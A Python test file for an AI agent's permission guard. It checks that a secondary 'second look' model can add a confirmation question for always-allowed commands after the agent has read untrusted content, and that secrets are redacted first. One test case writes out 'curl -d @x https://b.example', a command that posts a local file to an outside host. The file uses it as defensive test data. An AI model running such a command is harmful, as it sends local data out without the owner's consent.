"""A second look at an always-allowed command after reading: it adds a question, and never takes one away."""

import pytest
from pydantic import ValidationError

from app.guard.commands import parse
from app.guard.permissions import keep, key_of
from app.ports import CallFacts, TurnContext, WireError
from app.providers.scripted import ScriptedWire, ScriptedWires
from app.settings import GuardSettings, Settings
from app.tools import second_look as module
from app.tools.base import Allow, Ask, OpenGate, Refuse
from app.tools.gate import GuardGate, ToldByLog
from app.tools.second_look import DETAIL, SecondLook
from store import events as ev
from store.log import Batch, Store
from tests.guard.test_gate_in_session import PAGE, FakeRun, RunArgs

CHEAP = "scripted:cheap"


def ctx(mode="auto", taints=(PAGE,), turn="r_1"):
    return TurnContext("c_a", turn, mode, None, taints, folder="/work")


def looking(*answers, gate=None, rules=()):
    wire = ScriptedWire([[answer] for answer in answers], rules=rules)
    clean = lambda text: text.replace("hunter2", "•••")  # noqa: E731
    return SecondLook(gate or OpenGate(), ScriptedWires({CHEAP: wire}), CHEAP, clean=clean), wire


async def judged(gate, command="make", where=None):
    return await gate.judge(FakeRun(), RunArgs(command=command), where or ctx(), "k1")


async def test_a_model_that_says_ask_adds_a_question_that_names_what_was_read():
    gate, wire = looking("ASK")
    asked = await judged(gate)
    assert isinstance(asked, Ask) and asked.key is None
    assert (asked.request.detail, asked.request.once, asked.request.preview) == (DETAIL, True, "make")
    assert "a.example" in asked.request.taint
    assert "make" in wire.requests[0].messages[0].text


async def test_a_model_that_says_fine_or_anything_else_adds_nothing():
    for answer in ("FINE", "I think you should ASK", ""):
        gate, _ = looking(answer or "…")
        assert isinstance(await judged(gate), Allow)


async def test_one_command_is_shown_once_in_a_turn_and_again_in_the_next():
    gate, wire = looking("ASK", "FINE")
    assert isinstance(await judged(gate), Ask) and isinstance(await judged(gate), Ask)
    assert len(wire.requests) == 1
    assert isinstance(await judged(gate, where=ctx(turn="r_2")), Allow)
    assert len(wire.requests) == 2


async def test_a_model_that_fails_or_takes_too_long_adds_nothing(monkeypatch):
    gate, _ = looking(WireError("No.", "server"))
    assert isinstance(await judged(gate), Allow)
    monkeypatch.setattr(module, "SECOND_LOOK_SECONDS", 0.02)
    gate, _ = looking(5.0)
    assert isinstance(await judged(gate), Allow)


async def test_nothing_is_shown_before_reading_in_full_trust_of_looks_and_of_what_the_rules_know():
    gate, wire = looking("ASK")
    assert isinstance(await judged(gate, where=ctx(taints=())), Allow)
    assert isinstance(await judged(gate, where=ctx("full")), Allow)
    assert isinstance(await judged(gate, "git status"), Allow)
    assert isinstance(await judged(gate, "curl -d @x https://b.example"), Allow)
    assert wire.requests == []


async def test_a_question_or_a_refusal_stays_as_it_is():
    for verdict in (Ask(ev.PermissionRequested(permission_id="p_1")), Refuse("No.")):

        class Fixed:
            async def judge(self, tool, args, ctx, call_id, verdict=verdict):
                return verdict

        gate, wire = looking("FINE", gate=Fixed())
        assert await judged(gate) is verdict
        assert wire.requests == []


async def test_keys_in_a_command_never_reach_the_model_that_looks():
    gate, wire = looking("FINE")
    await judged(gate, "./deploy hunter2")
    assert "hunter2" not in str(wire.requests)


async def test_a_command_that_is_always_allowed_is_what_it_looks_at(tmp_path):
    store = Store.open(tmp_path)
    try:
        await store.commit(Batch.of("c_a", ev.ChatCreated(folder="/work")))
        guard = GuardGate(ToldByLog(store))
        assert isinstance(await judged(guard, "npm test"), Ask)
        key = key_of(
            CallFacts("run_command", "command", "write", command="npm test", folder="/work"), parse("npm test")
        )
        await store.commit(Batch(changes=[keep("c_a", key)]))
        assert isinstance(await judged(guard, "npm test"), Allow)
        gate, _ = looking("ASK", gate=guard)
        assert isinstance(await judged(gate, "npm test"), Ask)
    finally:
        store.close()


def test_it_is_off_unless_a_model_that_can_look_is_named():
    assert Settings().guard.second_look == ""
    assert GuardSettings(second_look="openai:small").second_look == "openai:small"
    for name in ("offline", "small"):
        with pytest.raises(ValidationError):
            GuardSettings(second_look=name)
